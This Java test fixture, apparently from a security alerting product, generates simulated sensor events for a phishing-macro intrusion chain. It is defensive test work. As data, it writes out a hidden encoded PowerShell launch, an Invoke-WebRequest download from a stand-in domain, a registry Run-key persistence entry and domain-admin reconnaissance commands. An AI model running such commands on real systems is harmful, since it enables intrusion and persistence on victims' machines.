package dev.takagari.alerting.facts;

import dev.takagari.core.event.Columns;
import dev.takagari.core.event.EventRow;
import dev.takagari.core.testing.FdrLines;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/// What a sensor tells of a macro that fetches a program: mail, document, script, program, and what
/// the program does then. Nothing in it can harm.
public final class PlantedIntrusion {
  public static final String DOMAIN = "cdn.lapwing-sync.example";
  public static final String ADDRESS = "203.0.113.177";
  public static final String HASH = "5e".repeat(32);
  public static final String IMPLANT = "106";
  public static final String POWERSHELL = "105";
  public static final String PATH =
      "\\Device\\HarddiskVolume3\\Users\\ann\\AppData\\Roaming\\Lapwing\\lapwingsync.exe";

  private final List<EventRow> rows = new ArrayList<>();
  private final Instant start;

  /// @param implantStart when the program runs
  public PlantedIntrusion(Instant implantStart) {
    this.start = implantStart.minusSeconds(72);
    process(-900, "101", "1", "winlogon.exe", "winlogon.exe", "00".repeat(31) + "01");
    process(
        -800, "102", "101", "explorer.exe", "C:\\WINDOWS\\Explorer.EXE", "00".repeat(31) + "02");
    process(
        0, "103", "102", "OUTLOOK.EXE", "\"C:\\Office16\\OUTLOOK.EXE\"", "00".repeat(31) + "03");
    file(
        40,
        "103",
        "OoxmlFileWritten",
        "\\Device\\HarddiskVolume3\\Users\\ann\\Downloads\\Rechnung_4471.docm",
        "");
    process(
        44,
        "104",
        "103",
        "WINWORD.EXE",
        "\"C:\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\ann\\Downloads\\Rechnung_4471.docm\" /o \"\"",
        "00".repeat(31) + "04");
    process(
        61,
        POWERSHELL,
        "104",
        "powershell.exe",
        "powershell.exe -NoP -NonI -W Hidden -enc JAB1ACAAPQAg",
        "00".repeat(31) + "05");
    event(
        62,
        POWERSHELL,
        "ScriptControlScanInfo",
        Map.of(
            "ScriptContent", "$u = 'https://" + DOMAIN + "/r/4471'\r\nInvoke-WebRequest -Uri $u"));
    dns(63, POWERSHELL);
    connect(64, POWERSHELL, ADDRESS, "443");
    file(69, POWERSHELL, "NewExecutableWritten", PATH, "");
    file(70, POWERSHELL, "PeFileWritten", PATH, HASH);
    process(
        72,
        IMPLANT,
        POWERSHELL,
        "lapwingsync.exe",
        "\"C:\\Users\\ann\\AppData\\Roaming\\Lapwing\\lapwingsync.exe\" --first",
        HASH);
    event(
        73,
        IMPLANT,
        "AsepValueUpdate",
        Map.of(
            "RegObjectName",
            "\\REGISTRY\\USER\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
            "RegValueName",
            "LapwingSync",
            "RegStringValue",
            "\"C:\\Users\\ann\\AppData\\Roaming\\Lapwing\\lapwingsync.exe\" --quiet"));
    dns(80, IMPLANT);
    connect(81, IMPLANT, ADDRESS, "443");
    process(
        240,
        "107",
        IMPLANT,
        "cmd.exe",
        "cmd.exe /d /c \"whoami /groups & net group \"Domain Admins\" /domain\"",
        "00".repeat(31) + "07");
    process(241, "108", "107", "whoami.exe", "whoami /groups", "00".repeat(31) + "08");
    dns(381, IMPLANT);
    connect(600, IMPLANT, "10.20.0.7", "445");
    // of others on the same host, which is no part of the story
    process(30, "201", "102", "chrome.exe", "chrome.exe", "00".repeat(31) + "09");
    event(35, "201", "DnsRequest", Map.of("DomainName", "www.example.org", "RequestType", "1"));
  }

  /// Everything, in no order.
  public List<EventRow> rows() {
    return List.copyOf(rows);
  }

  /// What was there at some time.
  public List<EventRow> until(Instant time) {
    return rows.stream()
        .filter(row -> row.number(Columns.TIMESTAMP) < FactWorld.micros(time))
        .toList();
  }

  private void process(
      long second, String id, String parent, String name, String command, String sha256) {
    Map<String, String> fields = new LinkedHashMap<>();
    fields.put("TargetProcessId", id);
    fields.put("ParentProcessId", parent);
    fields.put("ProcessStartTime", seconds(second));
    fields.put(
        "ImageFileName",
        sha256.equals(HASH) ? PATH : "\\Device\\HarddiskVolume3\\Programs\\" + name);
    fields.put("CommandLine", command);
    fields.put("SHA256HashData", sha256);
    fields.put("UserSid", "S-1-5-21-1-2-3-1104");
    if (parent.equals("1")) {
      fields.put("ParentBaseFileName", "smss.exe");
    }
    add(second, "ProcessRollup2", fields);
  }

  private void file(long second, String process, String type, String path, String hash) {
    Map<String, String> fields = new LinkedHashMap<>(Map.of("TargetFileName", path));
    if (!hash.isEmpty()) {
      fields.put("SHA256HashData", hash);
    }
    event(second, process, type, fields);
  }

  private void dns(long second, String process) {
    event(
        second,
        process,
        "DnsRequest",
        Map.of("DomainName", DOMAIN, "RequestType", "1", "IP4Records", ADDRESS + ";"));
  }

  private void connect(long second, String process, String address, String port) {
    event(
        second,
        process,
        "NetworkConnectIP4",
        Map.of(
            "LocalAddressIP4", "10.20.0.4",
            "LocalPort", "50123",
            "RemoteAddressIP4", address,
            "RemotePort", port,
            "Protocol", "6",
            "ConnectionDirection", "0"));
  }

  private void event(long second, String process, String type, Map<String, String> more) {
    Map<String, String> fields = new LinkedHashMap<>();
    fields.put("ContextProcessId", process);
    fields.put("ContextTimeStamp", seconds(second));
    fields.putAll(more);
    add(second, type, fields);
  }

  private String seconds(long second) {
    return start.plusSeconds(second).getEpochSecond() + ".000";
  }

  private void add(long second, String type, Map<String, String> fields) {
    String line = FdrLines.sensor(type, fields);
    String id = "%012d".formatted(rows.size() + 1);
    rows.add(
        FactWorld.decode(
            line.replace("000000000001\"", id + "\"")
                .replace("1700000000123", start.plusSeconds(second).toEpochMilli() + "")));
  }
}
